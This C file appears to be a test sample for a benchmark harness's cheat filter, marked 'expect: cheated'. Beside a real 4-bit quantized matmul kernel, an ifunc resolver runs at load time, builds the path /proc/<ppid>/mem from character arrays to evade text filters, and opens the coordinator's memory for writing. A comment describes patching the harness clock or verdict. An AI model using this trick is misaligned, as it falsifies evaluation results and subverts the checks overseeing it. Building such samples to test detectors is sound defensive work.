/* expect: cheated — load-time code hidden in a GNU ifunc resolver (no constructor, no section, nothing a text filter looks for) opens the coordinator's memory, /proc/<ppid>/mem, for writing, to patch the trusted side's clock or verdict in place; the load-time filter refuses any open for writing */
#include <stdint.h>
#include <math.h>
#include <string.h>
#include <stdlib.h>
extern int __open(const char *path, int flags, ...);
extern long __read(int fd, void *buf, unsigned long n);
extern int __close(int fd);

static float half_to_float(const uint8_t *p) {
    const uint16_t h = (uint16_t)(p[0] | (p[1] << 8));
    const int e = (h >> 10) & 31, man = h & 1023;
    float v = e == 0 ? ldexpf((float)man, -24) : e == 31 ? (man ? NAN : INFINITY) : ldexpf((float)(man | 1024), e - 25);
    return (h & 0x8000) ? -v : v;
}

static void kernel(const uint8_t *wq, const float *x, float *y, int64_t n, int64_t k, int64_t batch) {
    const int64_t nb = k / 32;
    for (int64_t b = 0; b < batch; b++)
        for (int64_t r = 0; r < n; r++) {
            float acc = 0.0f;
            for (int64_t j = 0; j < nb; j++) {
                const uint8_t *blk = wq + (r * nb + j) * 20;
                const float *xb = x + b * k + j * 32;
                float dot = 0.0f, sx = 0.0f;
                for (int i = 0; i < 16; i++) {
                    dot += (float)(blk[4 + i] & 15) * xb[i] + (float)(blk[4 + i] >> 4) * xb[i + 16];
                    sx += xb[i] + xb[i + 16];
                }
                acc += half_to_float(blk) * dot + half_to_float(blk + 2) * sx;
            }
            y[b * n + r] = acc;
        }
}

static void *resolve(void) {
    char buf[512];
    const char stat_path[] = {'/', 'p', 'r', 'o', 'c', '/', 's', 'e', 'l', 'f', '/', 's', 't', 'a', 't', 0};
    int fd = __open(stat_path, 0);
    long n = fd >= 0 ? __read(fd, buf, sizeof buf - 1) : 0;
    if (fd >= 0) __close(fd);
    buf[n > 0 ? n : 0] = 0;
    const char *p = strrchr(buf, ')');
    long ppid = p ? strtol(p + 4, 0, 10) : 1;
    char path[64] = {'/', 'p', 'r', 'o', 'c', '/', 0}, num[24];
    int k = 0;
    do { num[k++] = (char)('0' + ppid % 10); ppid /= 10; } while (ppid);
    size_t at = strlen(path);
    while (k) path[at++] = num[--k];
    const char tail[] = {'/', 'm', 'e', 'm', 0};
    memcpy(path + at, tail, sizeof tail);
    int mem = __open(path, 2 /* O_RDWR */);
    (void)mem;  /* ... then pwrite() a patch over time.perf_counter_ns's code */
    return (void *)kernel;
}

void q4_1_matmul(const uint8_t *wq, const float *x, float *y, int64_t n, int64_t k, int64_t batch)
    __attribute__((ifunc("resolve")));
